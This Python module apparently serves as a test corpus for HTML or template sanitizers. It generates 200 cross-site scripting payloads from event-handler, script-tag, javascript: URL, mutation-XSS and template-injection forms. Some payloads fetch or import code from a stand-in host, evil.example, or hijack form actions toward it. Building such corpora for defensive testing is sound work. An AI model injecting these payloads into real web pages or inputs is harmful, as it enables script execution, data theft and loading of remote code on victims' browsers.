"""Texts that would run a script if a page took them for markup, an attribute, a URL, a script or a template."""

ACTIONS = [
    "alert(1)", "confirm`1`", "top.location='http://evil.example/'", "fetch('http://evil.example/')",
    "new Image().src='http://evil.example/'", "document.write('<img src=http://evil.example/>')",
    "import('http://evil.example/x.js')", "self['al'+'ert'](document.domain)",
]

FORMS = [
    "<script>%s</script>",
    "</script><script>%s</script>",
    "</textarea></title></style><script>%s</script>",
    "<img src=x onerror=\"%s\">",
    "<svg onload=\"%s\">",
    "<svg><animate onbegin=\"%s\" attributeName=x dur=1s>",
    "\"><img src=x onerror=\"%s\">",
    "'><svg/onload=\"%s\">",
    "\" autofocus onfocus=\"%s\" x=\"",
    "<details open ontoggle=\"%s\">",
    "<iframe srcdoc=\"<script>%s</script>\"></iframe>",
    "<iframe src=\"javascript:%s\"></iframe>",
    "<a href=\"javascript:%s\">x</a>",
    "javascript:%s",
    "data:text/html,<script>%s</script>",
    "<math><mtext></p><style><img src=x onerror=\"%s\"></style></mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror='%s'>\">",
    "<template><script>%s</script></template>",
    "{{constructor.constructor(\"%s\")()}}",
    "${%s}",
    "';%s;//",
    "\\u003cimg src=x onerror=%s\\u003e",
    "&lt;img src=x onerror=%s&gt;",
    "<link rel=stylesheet href=http://evil.example/><meta http-equiv=refresh content=\"0;url=javascript:%s\">",
    "<base href=http://evil.example/><form action=http://evil.example/><button autofocus onfocus=\"%s\">",
]

PAYLOADS = [form % action for form in FORMS for action in ACTIONS]
assert len(PAYLOADS) >= 200
